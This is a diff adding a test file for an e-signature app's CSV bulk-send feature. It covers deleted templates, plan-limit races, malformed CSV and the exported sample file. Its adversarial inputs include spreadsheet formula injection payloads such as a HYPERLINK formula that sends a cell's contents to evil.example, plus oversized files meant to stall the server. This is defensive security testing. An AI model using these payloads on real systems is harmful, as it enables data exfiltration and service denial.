@@ -1,0 +1,233 @@
+import { API_MESSAGES } from '@signflow/contract/api-errors';
+import { MAX_BULK_SEND_BYTES } from '@signflow/contract/bulk-sends';
+import type { TemplateRole } from '@signflow/contract/templates';
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { bulkSendRows, bulkSends } from '../../../src/db/schema';
+import { NO_ORIGIN } from '../../../src/http/request-origin';
+import { type BulkSendWork, makeDueBulkSends } from '../../../src/modules/bulk-sends/bulk-send-worker';
+import { readCsvTable } from '../../../src/modules/bulk-sends/csv-file';
+import { queueBulkSend } from '../../../src/modules/bulk-sends/queue-bulk-send';
+import { createSignerLinks } from '../../../src/modules/signing/signer-links';
+import { createDiskStorage } from '../../../src/platform/storage/disk-storage';
+import { csvOf, documentsFrom, freshTag, HEADER, postBulkSend, waitForFinished } from '../../support/bulk-sends';
+import { createDocumentsTestApp, type DocumentsTestApp, owner } from '../../support/documents';
+import { makeTemplate, saveTemplateFields, senderFilledTemplate, templateField, useOf } from '../../support/templates';
+import { TEST_JWT_SECRET } from '../../support/test-app';
+
+/**
+ * Bulk send as an attacker and a careless owner would use it (docs/domain.md#bulk-send): files at the edges of CSV,
+ * two files at once at the plan's limit, a template deleted under a queued bulk send, a sample file a spreadsheet
+ * would run. The app's own job is left asleep; the tests that need it run passes of their own or wake it by the route.
+ */
+let t: DocumentsTestApp;
+let work: BulkSendWork;
+beforeAll(async () => {
+  t = await createDocumentsTestApp({ BULK_SEND_POLL_MS: '3600000' });
+  work = {
+    db: t.db,
+    storage: createDiskStorage(t.dataDir),
+    links: createSignerLinks('http://app.test', TEST_JWT_SECRET),
+    appUrl: 'http://app.test',
+    logger: t.app.log,
+  };
+});
+afterAll(async () => {
+  await t.close();
+});
+
+describe('a template deleted while its bulk send is queued', () => {
+  it('fails each row with why, finishes, and leaves no copied PDF behind', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const { id } = await queueBulkSend({
+      db: t.db,
+      owner: { accountId: who.accountId, origin: NO_ORIGIN },
+      templateId: made.template.id,
+      table: readCsvTable(Buffer.from(csvOf(30))),
+      send: true,
+    });
+    expect((await who.call('DELETE', `/v1/templates/${made.template.id}`)).statusCode).toBe(200);
+    await makeDueBulkSends(work, () => false);
+    const [bulkSend] = await t.db.select().from(bulkSends).where(eq(bulkSends.id, id));
+    expect(bulkSend).toMatchObject({ status: 'Finished', total: 30, created: 0, failed: 30, templateId: null });
+    const rows = await t.db.select().from(bulkSendRows).where(eq(bulkSendRows.bulkSendId, id));
+    expect(new Set(rows.map((row) => row.error))).toEqual(new Set([API_MESSAGES.bulkSendTemplateGone]));
+    expect(t.storedFiles().filter((file) => file.startsWith(`files/${who.accountId}/`))).toEqual([]);
+  });
+});
+
+describe('two files at once at the plan’s limit', () => {
+  it('lets only one take the last places', async () => {
+    const who = await owner(t, 'TRIAL');
+    const made = await senderFilledTemplate(t, who);
+    const [a, b] = await Promise.all([
+      postBulkSend(t, who.token, made.template.id, csvOf(2), [{ name: 'send', value: 'false' }]),
+      postBulkSend(t, who.token, made.template.id, csvOf(2), [{ name: 'send', value: 'false' }]),
+    ]);
+    expect([a.statusCode, b.statusCode].sort()).toEqual([202, 400]);
+    const done = a.statusCode === 202 ? a : b;
+    await waitForFinished(who, done.json<{ id: string }>().id);
+    expect(await documentsFrom(t.db, made.template.id)).toBe(2);
+  });
+});
+
+describe('places the plan keeps for a queued file', () => {
+  // FINDING (fails today): a file is accepted against the rows still to come, but a document made by hand (or an
+  // upload, or a public link's visitor) does not count them, and takes a place the file was promised.
+  it.fails('are not taken by a document made by hand meanwhile', async () => {
+    const who = await owner(t, 'TRIAL');
+    const made = await senderFilledTemplate(t, who);
+    const { id } = await queueBulkSend({
+      db: t.db,
+      owner: { accountId: who.accountId, origin: NO_ORIGIN },
+      templateId: made.template.id,
+      table: readCsvTable(Buffer.from(csvOf(3))),
+      send: false,
+    });
+    const byHand = await who.call('POST', `/v1/templates/${made.template.id}/documents`, useOf(made));
+    await makeDueBulkSends(work, () => false);
+    const [bulkSend] = await t.db.select().from(bulkSends).where(eq(bulkSends.id, id));
+    // What happens: the hand-made document is 201 and the file's third row fails past the plan's documents.
+    expect({ byHand: byHand.statusCode, failed: bulkSend?.failed }).toEqual({ byHand: 403, failed: 0 });
+  });
+});
+
+describe('CSV files at the edges', () => {
+  it('answers 400, never 500, for files a spreadsheet or an attacker may send', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const tag = freshTag();
+    const row = (n: number) =>
+      `Client ${n},client${n}.${tag}@example.com,Witness ${n},witness${n}.${tag}@example.com,Company ${n},true,2027-03-01`;
+    const cases: [string, string | Buffer][] = [
+      ['a header cell repeated', `${HEADER},Client name\n${row(1)},x\n`],
+      ['a stray quote in an unquoted value', `${HEADER}\n${row(1).replace('Company 1', 'Comp"any')}\n`],
+      ['UTF-16 with its byte order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvOf(1), 'utf16le')])],
+      ['a header of two million empty cells', `${','.repeat(MAX_BULK_SEND_BYTES - 100)}\n${row(1)}\n`],
+      ['a formula in a name', `${HEADER}\n${row(1).replace('Client 1', '=HYPERLINK("http://evil.example","x")')}\n`],
+      ['one row of 100,000 cells', `${HEADER}\n${row(1)}${',x'.repeat(100_000)}\n`],
+    ];
+    for (const [name, file] of cases) {
+      const started = Date.now();
+      const response = await postBulkSend(t, who.token, made.template.id, file, [{ name: 'send', value: 'false' }]);
+      expect(response.statusCode, `${name}: ${response.body.slice(0, 200)}`).toBeLessThan(500);
+      expect(Date.now() - started, name).toBeLessThan(10_000);
+    }
+  });
+
+  it('reads a file whose lines end with CR alone (as older spreadsheets save)', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const response = await postBulkSend(t, who.token, made.template.id, csvOf(2, freshTag(), '\r'), [
+      { name: 'send', value: 'false' },
+    ]);
+    expect(response.statusCode, response.body).toBe(202);
+    expect(response.json()).toMatchObject({ rows: 2 });
+  });
+
+  // FINDING (fails today): an empty header cell is an 'Unknown column' with no name.
+  it.fails('takes a header with a trailing empty cell, as spreadsheets save a sheet with an empty column', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const tag = freshTag();
+    const file = `${HEADER},\r\nClient 1,c1.${tag}@example.com,Witness 1,w1.${tag}@example.com,Company 1,true,2027-03-01,\r\n`;
+    const response = await postBulkSend(t, who.token, made.template.id, file, [{ name: 'send', value: 'false' }]);
+    expect(response.statusCode, response.body).toBe(202);
+  });
+});
+
+describe('the sample file', () => {
+  it('reads back as it was given, roles named with commas, quotes and a leading sign', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const roles = [
+      { name: 'Smith, "Anna"', level: 1 },
+      { name: '+Witness', level: 2 },
+    ];
+    const made = await makeTemplate(t, who, { roles });
+    const [first, second] = made.roles as [TemplateRole, TemplateRole];
+    await saveTemplateFields(who, made, { create: [templateField(first.id), templateField(second.id)] });
+    const sample = await who.call('GET', `/v1/templates/${made.id}/bulk-sends/sample.csv`);
+    const response = await postBulkSend(t, who.token, made.id, sample.body, [{ name: 'send', value: 'false' }]);
+    expect(response.statusCode, response.body).toBe(202);
+  });
+
+  // FINDING (fails today): role names and labels go into the sample file as they are.
+  it.fails('starts no cell with a formula sign a spreadsheet would run (CSV injection)', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const roles = [
+      { name: '=HYPERLINK("http://evil.example/?"&A2,"Open")', level: 1 },
+      { name: 'Witness', level: 2 },
+    ];
+    const made = await makeTemplate(t, who, { roles });
+    const sample = await who.call('GET', `/v1/templates/${made.id}/bulk-sends/sample.csv`);
+    const cells = sample.body
+      .replace(/^\uFEFF/, '')
+      .split('\r\n')[0]
+      ?.match(/("([^"]|"")*"|[^,]*)(,|$)/g)
+      ?.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
+    expect(
+      cells?.filter((cell) => /^[=+\-@]/.test(cell)),
+      'cells a spreadsheet reads as formulas',
+    ).toEqual([]);
+  });
+});
+
+describe('a file sent for signing', () => {
+  // FINDING (fails today): queued (202), then every row fails in the job.
+  it.fails('is refused at once when the template has a role without a field, which Invite Sign would refuse each row for', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await makeTemplate(t, who);
+    const [client] = made.roles as [TemplateRole, TemplateRole];
+    await saveTemplateFields(who, made, { create: [templateField(client.id)] });
+    const tag = freshTag();
+    const file = `Client name,Client email,Witness name,Witness email\r\n${Array.from(
+      { length: 50 },
+      (_, n) => `C ${n},c${n}.${tag}@example.com,W ${n},w${n}.${tag}@example.com`,
+    ).join('\r\n')}\r\n`;
+    const response = await postBulkSend(t, who.token, made.id, file);
+    if (response.statusCode === 202) {
+      const progress = await waitForFinished(who, response.json<{ id: string }>().id);
+      // What happens: queued, then every row fails in the job with the same message.
+      expect(progress).toMatchObject({ created: 0, failed: 50 });
+      expect(progress.errors[0]?.message).toBe('Add a field for W 0 before inviting');
+    }
+    expect(response.statusCode, 'queued a file whose every row must fail').toBe(400);
+  });
+});
+
+describe('the largest file', () => {
+  // FINDING (a measure, not a bound: the machine decides): the file is parsed and every row checked synchronously,
+  // on PGlite inside the transaction that holds the only connection; the route has neither the uploads' admission
+  // nor a rate limit. Measured on 2 shared cores: another account's call waited 1.8 to 5.4 s.
+  it("keeps other accounts' calls answered while three 5,000-row files are checked at once", async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const other = await owner(t);
+    // 5,000 rows that pass but the last: the whole file is read and checked, then refused, so nothing is queued.
+    const lines = csvOf(5000).split('\r\n');
+    lines[5000] = (lines[5000] ?? '').replace('2027-03-01', '2027-02-30');
+    const file = lines.join('\r\n');
+    const started = Date.now();
+    let settled = false;
+    const posts = Promise.all(
+      Array.from({ length: 3 }, () => postBulkSend(t, who.token, made.template.id, file)),
+    ).finally(() => {
+      settled = true;
+    });
+    const waits: number[] = [];
+    while (!settled) {
+      const before = Date.now();
+      expect((await other.call('GET', '/v1/templates')).statusCode).toBe(200);
+      waits.push(Date.now() - before);
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+    const answers = await posts;
+    const postsMs = Date.now() - started;
+    const otherMs = Math.max(...waits);
+    expect(answers.map((answer) => answer.statusCode)).toEqual([400, 400, 400]);
+    console.log(
+      `three 5,000-row files: ${postsMs} ms; another account's GET /v1/templates meanwhile, at worst: ${otherMs} ms (${waits.length} calls)`,
+    );
+  });
+});
